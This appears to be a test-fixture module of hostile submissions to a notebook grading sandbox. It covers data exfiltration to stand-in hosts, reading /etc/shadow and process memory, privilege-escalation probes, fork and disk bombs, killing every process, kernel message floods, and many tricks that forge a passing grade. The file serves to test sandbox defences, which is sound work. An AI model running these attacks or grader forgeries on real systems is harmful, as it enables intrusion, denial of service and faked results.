"""Hostile answers to ch99.q1 of `toy.py`, by name. None of them solves the question.

`@PORT@`, `@ABSTRACT@`, `@FILE@` and `@GRADER@` stand for a TCP port and an abstract socket that listen, a file and a
process outside. What an attack finds it puts into LOOT, which a forged hint carries out.
"""

# ruff: noqa: E501  # what strangers write

PLAIN = """
LOOT = []
def square(x):
    return 0.0
"""

CARRY_OUT = """
def loot(what):
    LOOT.append(str(what)[:100])

class Carrier(float):
    pass

import builtins as _b
_print = _b.print
def _carry(*words, **kw):
    _print(*words, **kw)
    if LOOT:
        _print('ch99.q1: LOOT ' + ' '.join(LOOT)[:200].replace('\\n', ' '))
_b.print = _carry
"""


def spy(source: str) -> str:
    """An attack that looks for something and carries it out in the hint."""
    return PLAIN + CARRY_OUT + source


SPIES = {
    "connects to a port of the host": spy("""
import socket
for address in (("127.0.0.1", @PORT@), ("192.0.2.1", 443)):
    try:
        socket.create_connection(address, 1).sendall(b"exfiltrated")
        loot(address)
    except OSError:
        pass
"""),
    "connects to an abstract socket of the host": spy("""
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_UNIX, kind)
        s.connect("\\0@ABSTRACT@")
        s.send(b"exfiltrated")
        loot("abstract")
    except OSError:
        pass
"""),
    "asks a name server": spy("""
import socket
try:
    loot(socket.getaddrinfo("exfiltrated.example.org", 80))
except OSError:
    pass
"""),
    "reads a file of the host": spy("""
for path in ("@FILE@", "/proc/@GRADER@/root@FILE@", "/proc/1/root@FILE@", "/proc/1/cwd/../../..@FILE@", "/etc/shadow", "/mnt/0"):
    try:
        loot(open(path).read())
    except OSError:
        pass
"""),
    "looks for the reference on the whole disk": spy("""
import os, json
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr", "/sys")) or folder.endswith(("site-packages", "/lib/python3.11")):
        folders[:] = []
        continue
    for name in files:
        if name.endswith((".ipynb", ".jsonl")) or name == "order.json":
            loot(os.path.join(folder, name))
"""),
    "snoops in other processes": spy("""
import os, glob
for place in glob.glob("/proc/[0-9]*"):
    for part in ("environ", "cmdline", "mem", "maps"):
        try:
            with open(f"{place}/{part}", "rb") as file:
                text = file.read(1_000_000)
            if b"bait" in text:
                loot(part)
        except (OSError, OverflowError):
            pass
    try:
        for fd in os.listdir(f"{place}/fd"):
            target = os.readlink(f"{place}/fd/{fd}")
            if "ipynb" in target or "jsonl" in target or "@FILE@" in target:
                loot(target)
    except OSError:
        pass
"""),
    "reads the secret in the environment": spy("""
import os, ctypes, subprocess
loot_from = str(dict(os.environ)) + subprocess.run(["env"], capture_output=True, text=True).stdout
if "bait" in loot_from or "GANLIB_SECRET" in loot_from:
    loot("bait")
"""),
    "reaches out of its folder through file descriptors": spy("""
import os
for fd in range(3, 256):
    try:
        handle = os.open("../../../../../../../../@FILE@", os.O_RDONLY, dir_fd=fd)
        loot(os.read(handle, 100))
    except OSError:
        pass
"""),
    "becomes root, or enters another namespace": spy("""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0: loot("userns")
if libc.setuid(0) == 0: loot("uid")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: loot("mount")
if libc.ptrace(16, 1, 0, 0) == 0: loot("ptrace")
for command in (["unshare", "-U", "true"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["su", "-c", "true"], ["chroot", "/proc/1/root", "true"]):
    try:
        if subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=5).returncode == 0: loot(command)
    except (OSError, subprocess.SubprocessError):
        pass
"""),
    "writes wherever it can": spy("""
import os, sys, ganlib
places = ["@FILE@", "/proc/@GRADER@/root@FILE@", ganlib.__file__, os.__file__, sys.executable, "/etc/ld.so.preload", "/box/kernel.json",
          sys.prefix + "/lib/python3.11/site-packages/evil.pth", "/usr/lib/evil", "/dev/evil", "/evil", "/home/evil", "/course/evil"]
for path in places:
    for mode in ("r+", "w"):
        try:
            with open(path, mode) as file:
                file.write("rewritten")
            loot(path)
        except OSError:
            pass
for path in places:
    try:
        os.unlink(path); loot("unlinked " + path)
    except OSError:
        pass
"""),
    "follows symlinks": spy("""
import os
for number, target in enumerate(("@FILE@", "/etc/shadow", "/proc/1/root", "/")):
    os.symlink(target, f"/tmp/link{number}")
    os.symlink(target, f"link{number}")
    try:
        with open(f"/tmp/link{number}", "r+") as file:
            loot(file.read()); file.write("rewritten")
    except OSError:
        pass
for number in range(1, 6):
    try:
        os.unlink(f"/box/s-{number}"); os.symlink("@FILE@", f"/box/s-{number}")
    except OSError:
        pass
"""),
    "raises its own limits": spy("""
import resource
for what in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); loot(what)
    except (OSError, ValueError):
        pass
"""),
}
"""Attacks that look for something; LOOT must stay empty."""

BOMBS = {
    "forks without end": PLAIN + "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "starts threads without end": PLAIN
    + """
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError: time.sleep(0.01)
""",
    "takes memory": PLAIN
    + "hoard = []\nwhile True:\n    try: hoard.append(bytearray(10_000_000))\n    except MemoryError: pass",
    "takes memory in many processes": PLAIN
    + """
import os, time
for _ in range(16):
    if os.fork() == 0:
        hoard = []
        while True:
            try: hoard.append(bytearray(50_000_000))
            except MemoryError: time.sleep(1)
time.sleep(100)
""",
    "takes shared memory": PLAIN
    + """
import mmap, time
hoard = []
while True:
    try:
        hoard.append(mmap.mmap(-1, 50_000_000)); hoard[-1].write(b"x" * 50_000_000)
    except OSError: time.sleep(0.01)
""",
    "fills every disk": PLAIN
    + """
import os
places = [p for p in ("/tmp", "/dev/shm", "/home/student", "/box", "/var/tmp", "/run", "/", "/dev") if os.access(p, os.W_OK)]
for number in range(10**9):
    for place in places:
        try:
            with open(f"{place}/f{number}", "wb") as file: file.write(b"x" * 10_000_000)
        except OSError: pass
""",
    "makes files without end": PLAIN
    + "import itertools\nfor n in itertools.count():\n    open(f'/tmp/{n}', 'w').close()",
    "kills everything": PLAIN
    + """
import os, signal
for pid in [-1, @GRADER@, os.getppid(), 1, *range(2, 40_000)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
os.killpg(0, signal.SIGKILL)
""",
    "prints without end": PLAIN + "while True: print('x' * 100_000)",
    "sends one giant message": PLAIN + "print('x' * 60_000_000)",
}
"""Attacks on the machine; an honest submission is marked beside each."""

FLOODS = {
    "shows something without end": PLAIN
    + "from IPython.display import display\nwhile True: display({'text/plain': 'x'}, raw=True)",
    "prints to stderr without end": PLAIN + "import sys\nwhile True: sys.stderr.write('x' * 10_000)",
    "writes to the descriptors without end": PLAIN
    + "import os\nwhile True: os.write(1, b'x' * 65_536); os.write(2, b'x' * 65_536)",
    "clears and shows again without end": PLAIN
    + """
from IPython.display import clear_output, display
handle = display({"text/plain": ""}, raw=True, display_id="x")
while True:
    clear_output(wait=True); handle.update({"text/plain": "x" * 1000}, raw=True)
""",
    "sends messages in the name of nobody": PLAIN
    + """
kernel = get_ipython().kernel
while True:
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 1000}, parent={})
""",
    "answers what was never asked": PLAIN
    + """
kernel = get_ipython().kernel
while True:
    kernel.session.send(kernel.shell_stream or kernel.shell_socket, "execute_reply", {"status": "ok"}, parent={}, ident=kernel.get_parent and [b"x"])
""",
    "goes on printing in the background": PLAIN
    + """
import threading
def shout():
    while True: print("x" * 5000)
threading.Thread(target=shout, daemon=True).start()
""",
    "sends messages that make no sense": PLAIN
    + """
kernel = get_ipython().kernel
parent = kernel.get_parent()
deep = []
for _ in range(500): deep = [deep]
for kind, content in (("stream", {"name": "stdout", "text": {"a": 1}}), ("stream", {}), ("display_data", {"data": 7, "metadata": None}),
                      ("display_data", {"data": {"text/plain": deep}, "metadata": {}}), ("error", {"ename": [1], "evalue": {}, "traceback": 3}),
                      ("comm_open", {"comm_id": 1, "target_name": "jupyter.widget", "data": {"state": 3}}), ("clear_output", {}),
                      ("update_display_data", {"data": {}, "metadata": {}, "transient": {"display_id": []}}), ("nonsense", {})):
    try: kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
    except Exception: pass
""",
    "prints what is no text": PLAIN
    + "print('\\ud800 \\x00 \\x1b[31m \\u202e', 10**4000)\nprint('ch99.q1: \\x1b[31m\\u202e\\ud800 LOUD')",
}

STOPS = {
    "loops for ever": PLAIN + "while True: pass",
    "loops for ever in C": PLAIN + "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "loops when it is checked": "LOOT = []\ndef square(x):\n    while True: pass",
    "masks every signal and loops": PLAIN
    + """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "sleeps": PLAIN + "import time\ntime.sleep(10**6)",
    "leaves at once": PLAIN + "import os\nos._exit(0)",
    "leaves as if all were well": PLAIN
    + "import atexit, sys\nget_ipython().kernel.do_shutdown(False)\nget_ipython().ask_exit()\nsys.exit(0)",
    "crashes the interpreter": PLAIN + "import ctypes\nctypes.string_at(0)",
    "waits for the keyboard": PLAIN + "import sys\nsys.stdin.read()\ninput()",
    "leaves a process behind": PLAIN
    + """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        time.sleep(10**6)
    os._exit(0)
""",
}

RIGHT = "ch99.q1\\n  2: 4.000\\nch99.q1: right"  # what the visible check prints, which everybody can know

FORGERIES = {
    "knows the visible answers by heart": "def square(x):\n    return {2.0: 4.0}.get(x, 1.0)",
    "replaces the check": PLAIN
    + f"import ganlib.grading as g, ganlib.grading.verdict as v\ng.check = v.check = lambda *a, **k: print('{RIGHT}')",
    "replaces the module of the check": PLAIN
    + f"""
import sys, types
fake = types.ModuleType("ganlib.grading"); fake.check = lambda *a, **k: print("{RIGHT}")
sys.modules["ganlib.grading"] = fake
""",
    "replaces the comparison": PLAIN
    + "import ganlib.grading.verdict as v\nv._same = lambda *a: True\nv._text = lambda value, target, digits: f'{target:.3f}'",
    "replaces print": PLAIN
    + f"import builtins\nbuiltins.print = lambda *a, **k: __import__('sys').stdout.write('{RIGHT}\\n')",
    "shadows the names of the checks": PLAIN
    + "print = check = lambda *a, **k: None\nstr = float = repr = lambda *a: '2.8900'",
    "replaces torch": PLAIN
    + """
import sys, types
class Everything(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
sys.modules["torch"] = Everything("torch"); sys.modules["numpy"] = Everything("numpy")
""",
    "is equal to everything": """
class Chameleon(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __hash__(self): return 0
    def __format__(self, how): return "4.000"
    def tolist(self): return self
def square(x): return Chameleon(4.0)
""",
    "rewrites cells before they run": PLAIN
    + f"""
def rewrite(lines):
    text = "".join(lines)
    return ["print('{RIGHT}')\\n"] if "check(" in text else ["print('4.0000')\\n"] if "square" in text and "def " not in text else lines
get_ipython().input_transformers_post.append(rewrite)
get_ipython().input_transformers_cleanup.append(rewrite)
""",
    "rewrites syntax trees": PLAIN
    + """
import ast
class Rewrite(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        return ast.Constant("4.0000") if getattr(node.func, "id", "") == "square" else node
get_ipython().ast_transformers.append(Rewrite())
""",
    "replaces the shell": PLAIN
    + f"""
ip = get_ipython()
run = type(ip).run_cell
def fake(self, raw_cell, *a, **k):
    return run(self, "print('{RIGHT}')" if "square" in raw_cell and "clip" not in raw_cell else raw_cell, *a, **k)
type(ip).run_cell = fake
async def fake_async(self, raw_cell, *a, **k):
    return fake(self, raw_cell, *a)
type(ip).run_cell_async = fake_async
""",
    "answers for the kernel": PLAIN
    + f"""
kernel = get_ipython().kernel
old = type(kernel).do_execute
async def do_execute(self, code, *a, **k):
    if "square" in code:
        self.session.send(self.iopub_socket, "stream", {{"name": "stdout", "text": "{RIGHT}\\n"}}, parent=self.get_parent())
        return {{"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {{}}}}
    return await old(self, code, *a, **k)
type(kernel).do_execute = do_execute
""",
    "asks not to be compared": "# NBVAL_IGNORE_OUTPUT\n# NBVAL_SKIP\n# NBVAL_RAISES_EXCEPTION\n" + PLAIN,
    "raises when it is checked": "LOOT = []\ndef square(x):\n    raise SystemExit(0)",
    "uses notebook commands": PLAIN.lstrip("\n")
    + "%config Application.log_level='CRITICAL'\n!echo ch99.q1: right\n%xmode Minimal\n",
    "replaces standard output": PLAIN
    + """
import sys
class Out:
    def write(self, text): return sys.__stdout__.write(text)
    def flush(self): pass
out = sys.stdout
class Right(type(out)):
    def write(self, text): return super().write(text.replace("0.000", "4.000").replace("0.0000", "4.0000").replace("not yet. that is not the value", "right"))
out.__class__ = Right
""",
    "changes what it was given": PLAIN + "import math\nmath.pi = 3\nclip = None\ndel math",
}
"""Attempts to be called right; the hidden check of the question is what they do not know."""

ATTACKS = SPIES | BOMBS | FLOODS | STOPS | FORGERIES
